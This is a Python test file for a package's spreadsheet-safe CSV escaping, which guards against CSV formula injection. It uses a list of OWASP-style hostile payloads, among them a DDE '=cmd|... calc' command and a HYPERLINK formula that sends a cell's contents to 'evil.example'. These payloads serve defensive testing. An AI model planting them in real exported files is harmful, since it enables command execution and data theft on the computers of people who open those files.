"""Spreadsheet-safe CSV (CSV injection, OWASP): the escape, its inverse and its coverage.

The Hypothesis round trip runs 300 examples; set ``GRIDPLAN_FUZZ_EXAMPLES`` (e.g. 20000)
for a longer run.
"""

import ast
import csv
import io
import os
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
import shapely
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st

import gridplan
from gridplan.io.csvsafe import escape_cell
from gridplan.io.csvsafe import frame_csv_text
from gridplan.io.csvsafe import needs_escape
from gridplan.io.csvsafe import safe_frame
from gridplan.io.csvsafe import unescape_cell
from gridplan.io.export import write_csv
from gridplan.io.results import read_hotspots
from gridplan.io.results import write_hotspots
from gridplan.io.results import write_rejects

EXAMPLES = int(os.environ.get("GRIDPLAN_FUZZ_EXAMPLES", "300"))
PACKAGE = Path(gridplan.__file__).parent

#: payloads of the outside tester and OWASP's list
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    "  =1+1",
    " @SUM(1)",
    "-",
    "'=1+1",
]
HARMLESS = ["盗窃", "S01-B1-M001", "-3.5", "+12", "-1.2e3", " -122.65 ", "", "a=b", "'x", "1-2"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_quote(text):
    assert escape_cell(text) == "'" + text
    assert unescape_cell(escape_cell(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_and_numbers_are_kept(text):
    assert escape_cell(text) == text
    assert unescape_cell(text) == text


@pytest.mark.parametrize("value", [-3.5, -122.65, 0, True, None])
def test_non_text_values_are_never_touched(value):
    assert escape_cell(value) is value


def test_a_long_run_of_quotes_is_linear():
    text = "'" * 200_000 + "=1"
    assert needs_escape(text) and unescape_cell(escape_cell(text)) == text


@settings(max_examples=EXAMPLES, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n 1.eE3a盗"), max_size=12) | st.text())
def test_the_escape_round_trips_and_leaves_nothing_a_spreadsheet_runs(text):
    out = escape_cell(text)
    assert unescape_cell(out) == text
    assert not needs_escape(out) or out.startswith("'")
    stripped = out.lstrip()
    if stripped[:1] in ("=", "+", "-", "@"):  # a formula start may only remain on a number
        assert not needs_escape(out)


@settings(max_examples=EXAMPLES, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from("=+-@'\t\r\n 1.a"), max_size=6), max_size=8))
def test_a_frame_is_escaped_cell_by_cell(texts):
    column = safe_frame(pd.DataFrame({"t": texts}))["t"].tolist()
    assert column == [escape_cell(t) for t in texts]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_a_frame_keeps_numbers_and_quotes_text_and_headers():
    frame = pd.DataFrame(
        {
            "category": ["=1+1", "盗窃"],
            "lon": [-122.65, 120.1],
            "lat_text": ["-45.5", "@x"],
            "=evil": ["a", "b"],
            "kind": pd.Categorical(["+1+1", "ok"]),
        }
    )
    rows = _cells(frame_csv_text(frame))
    assert rows[0] == ["category", "lon", "lat_text", "'=evil", "kind"]
    assert rows[1] == ["'=1+1", "-122.65", "-45.5", "a", "'+1+1"]
    assert rows[2] == ["盗窃", "120.1", "'@x", "b", "ok"]
    assert list(frame.columns)[3] == "=evil" and frame.loc[0, "category"] == "=1+1"  # no mutation
    assert safe_frame(frame)["lon"].dtype == float


def test_write_csv_quotes_formula_cells_of_a_geodataframe(tmp_path):
    gdf = gpd.GeoDataFrame(
        {"id": ["M1", "M2"], "name": ['=HYPERLINK("http://x")', "东街"]},
        geometry=[shapely.Point(-122.6, 45.5), shapely.Point(-122.7, 45.4)],
        crs=4326,
    )
    path = write_csv(gdf, tmp_path / "grid.csv", geometry="lonlat")
    rows = _cells(path.read_text(encoding="utf-8-sig"))
    assert rows[1] == ["M1", '\'=HYPERLINK("http://x")', "-122.6", "45.5"]
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back["lon"].dtype == float  # negative coordinates stay numbers


def test_write_rejects_quotes_the_raw_values(tmp_path):
    from gridplan._validate import REJECT_COLUMNS

    rejects = pd.DataFrame({c: ["x"] for c in REJECT_COLUMNS})
    first = REJECT_COLUMNS[-1]
    rejects[first] = ["=cmd|' /C calc'!A0"]
    text = write_rejects(rejects, tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in text


def test_a_hotspot_csv_reads_back_the_text_it_was_written_from(tmp_path):
    hot = gpd.GeoDataFrame(
        {
            "id": ["=M1", "M2"],
            "name": ["@东街", "'=x"],
            "slice": ["night", "+day"],
            "score": [1.5, -0.5],
            "rank": [1, 2],
            "gi_class": ["hot_99", "not_significant"],
            "count": [3, 0],
        },
        geometry=[shapely.box(0, 0, 1, 1), shapely.box(1, 0, 2, 1)],
        crs=4326,
    )
    path = write_hotspots(hot, tmp_path / "h.csv")
    assert "'=M1" in path.read_text(encoding="utf-8-sig")
    back = read_hotspots(path)
    assert back["id"].tolist() == ["=M1", "M2"] and back["slice"].tolist() == ["night", "+day"]
    assert back["name"].tolist() == ["@东街", "'=x"] and back["score"].tolist() == [1.5, -0.5]


# -- every CSV writer of the package goes through gridplan.io.csvsafe ------------------------

#: writers allowed outside csvsafe, each with why
ALLOWED = {
    # the store keeps the rejected rows as gridplan wrote them (read back with pandas, never
    # sent as they are): views/imports.py escapes them on download
    "web/store.py",
}
WRITER_CALLS = {"to_csv", "writer", "DictWriter", "to_excel", "Workbook", "ExcelWriter"}


def _csv_writers(root: Path) -> list[str]:
    found = []
    for path in sorted(root.rglob("*.py")):
        rel = path.relative_to(root).as_posix()
        if rel == "io/csvsafe.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.Call):
                continue
            name = getattr(node.func, "attr", getattr(node.func, "id", None))
            if name in WRITER_CALLS and rel not in ALLOWED:
                found.append(f"{rel}:{node.lineno} {name}(")
    return found


def test_no_csv_or_spreadsheet_writer_bypasses_csvsafe():
    found = _csv_writers(PACKAGE)
    assert not found, (
        "write CSV through gridplan.io.csvsafe (write_frame_csv / frame_csv_text) so formula "
        "cells are quoted:\n  " + "\n  ".join(found)
    )


def test_the_writer_finder_finds_a_writer(tmp_path):
    (tmp_path / "io").mkdir()
    (tmp_path / "io" / "rogue.py").write_text(
        "import csv\ndef f(df, fh):\n    df.to_csv(fh)\n    csv.writer(fh)\n", encoding="utf-8"
    )
    assert _csv_writers(tmp_path) == ["io/rogue.py:3 to_csv(", "io/rogue.py:4 writer("]
